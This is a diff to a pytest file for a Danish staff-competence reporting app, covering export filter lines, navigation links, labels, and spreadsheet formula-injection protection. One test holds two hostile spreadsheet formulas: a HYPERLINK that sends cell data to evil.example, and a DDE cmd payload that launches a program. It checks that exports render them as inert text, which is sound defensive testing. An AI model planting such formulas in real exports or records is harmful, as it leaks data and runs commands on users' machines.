@@ -48,13 +48,30 @@ def screen_table(response, table_id):
     return parser.rows
 
 
-def csv_rows(response):
+# Every export starts with its caption, its filter line and a blank line, then the table.
+PREAMBLE = 3
+
+
+def csv_lines(response):
     return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+
+
+def csv_rows(response):
+    return csv_lines(response)[PREAMBLE:]
+
+
+def xlsx_lines(response):
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    return [
+        [str(value) for value in row if value is not None]
+        for row in sheet.iter_rows(values_only=True)
+    ]
 
 
 def xlsx_rows(response):
     sheet = load_workbook(io.BytesIO(response.content)).active
-    return [[str(value) for value in row] for row in sheet.iter_rows(values_only=True)]
+    rows = [[str(value) for value in row] for row in sheet.iter_rows(values_only=True)]
+    return rows[PREAMBLE:]
 
 
 @pytest.fixture
@@ -208,3 +225,85 @@ def test_the_person_page_leaves_out_another_employers_requirements(hanne, tree):
 def test_the_people_list_logs_one_entry_per_person_shown(hanne, tree):
     hanne.get(reverse("reports:people", args=[tree["south"].pk]))
     assert AccessLog.objects.filter(what="people_list").count() == 4
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_filtered_export_states_its_filter_and_an_unfiltered_one_says_none(hanne, tree, fmt):
+    lines = csv_lines if fmt == "csv" else xlsx_lines
+    url = reverse("reports:people_export", args=[tree["south"].pk, fmt])
+    with translation.override("da"):
+        overdue = str(Status.OVERDUE.label)
+    filtered = lines(hanne.get(f"{url}?status=overdue&role={tree['ssa'].pk}"))
+    assert filtered[0] == ["Status pr. person og kompetence i Team Syd"]
+    assert filtered[1] == [f"Filter: Stilling: {tree['ssa'].name}; Status: {overdue}"]
+    assert lines(hanne.get(url))[1] == ["Filter: ingen"]
+    dashboard = lines(
+        hanne.get(reverse("reports:export", args=[fmt]) + "?competence=" + str(tree["n3"].pk))
+    )
+    assert dashboard[1] == [f"Filter: Kompetence: {tree['n3']}"]
+
+
+def test_the_pdf_states_its_filter(hanne, tree):
+    from tests.pdf_text import pdf_text
+
+    url = reverse("reports:export", args=["pdf"]) + "?status=overdue"
+    text = pdf_text(hanne.get(url).content)
+    assert "Filter: Status: Overskredet" in text
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Se status")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_a_roster_name_that_is_a_formula_arrives_as_inert_text(hanne, tree, payload):
+    frida = tree["people"]["frida"]
+    frida.first_name = payload
+    frida.save()
+
+    def export(fmt):
+        return hanne.get(reverse("reports:people_export", args=[tree["south"].pk, fmt]))
+
+    rows = csv_rows(export("csv"))
+    assert any(row[0].startswith("'" + payload) for row in rows), rows
+    workbook = export("xlsx").content
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    cells = [c for row in load_workbook(io.BytesIO(workbook)).active.iter_rows() for c in row]
+    named = [c for c in cells if isinstance(c.value, str) and c.value.startswith(payload)]
+    assert named and all(c.data_type == "s" for c in named)
+
+
+def test_every_manager_page_links_to_the_others(hanne, tree):
+    pages = [
+        reverse("reports:dashboard"),
+        reverse("competences:staff"),
+        reverse("competences:requirements"),
+        reverse("manage_org:delegations"),
+    ]
+    for url in pages:
+        html = hanne.get(url).content.decode()
+        nav = html.split('class="manager-nav"')[1].split("</nav>")[0]
+        for other in pages:
+            assert f'href="{other}"' in nav, (url, other)
+        assert f'href="{url}" aria-current="page"' in nav
+
+
+def test_the_labels_say_what_they_count(hanne, tree):
+    with translation.override("da"):
+        coverage = screen_table(hanne.get(dashboard_url()), "coverage")
+        people = screen_table(
+            hanne.get(reverse("reports:people", args=[tree["south"].pk])), "people"
+        )
+    header = coverage[0]
+    assert "Andel der har den, inkl. udløber snart (%)" in header
+    assert "Opfyldt, gyldig over 90 dage" in header
+    assert coverage[-1][1] == "Alle kompetencer (personer × kompetencer)"
+    total = people[-1]
+    # Team Syd: Emil, Frida, Gustav, Hans (4 people); N3 applies to the 3 SSAs, Gustav holds it.
+    assert total[:3] == ["I alt: 4 personer", "–", "–"]
+    assert total[3] == "1 af 3 har den"
